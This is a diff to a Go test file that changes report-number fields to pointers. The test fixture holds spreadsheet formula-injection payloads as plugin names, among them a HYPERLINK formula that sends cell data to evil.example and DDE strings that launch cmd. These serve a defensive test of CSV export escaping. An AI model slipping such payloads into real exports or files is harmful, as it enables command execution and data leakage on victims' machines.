@@ -11,13 +11,16 @@ import (
 	"github.com/abacushq/abacus/internal/insights"
 )
 
+// ptr returns a pointer to v: a published number in a report.
+func ptr[T any](v T) *T { return &v }
+
 // hostileReport is a plugins report whose plugin names a client chose.
 func hostileReport() *insights.Report {
 	return &insights.Report{Report: "plugins", From: "2026-11-01", To: "2026-11-30", K: 5, ActiveProjects: 40,
 		Summary: insights.PluginsSummary{},
 		Rows: []insights.PluginRow{
-			{Plugin: `=HYPERLINK("http://evil.example/?"&A1,"click")`, Projects: 10, Share: 0.25, PreviousProjects: 12, Change: -2},
-			{Plugin: "+cmd|' /C calc'!A0", Projects: 9},
+			{Plugin: `=HYPERLINK("http://evil.example/?"&A1,"click")`, Projects: 10, Share: 0.25, PreviousProjects: ptr(12), Change: ptr(-2)},
+			{Plugin: "+cmd|' /C calc'!A0", Projects: 9, PreviousProjects: ptr(9), Change: ptr(0)},
 			{Plugin: "-2+3+cmd|' /C calc'!A0", Projects: 8},
 			{Plugin: "@SUM(1+1)*cmd|' /C calc'!A0", Projects: 7},
 			{Plugin: "\t=1+1", Projects: 6},
@@ -91,7 +94,7 @@ func TestCSVCarriesRawNumbers(t *testing.T) {
 	if !slices.EqualFunc(records, want, slices.Equal) {
 		t.Errorf("CSV %q, want %q", records, want)
 	}
-	rep.Rows = []insights.SetupRow{{Dimension: "os", Value: "windows", Projects: 1500, P50Ms: 397089, CompletionRate: 0.925}}
+	rep.Rows = []insights.SetupRow{{Dimension: "os", Value: "windows", Projects: 1500, P50Ms: ptr[int64](397089), CompletionRate: 0.925}}
 	out.Reset()
 	if err := printReport(&out, rep, "csv"); err != nil {
 		t.Fatal(err)
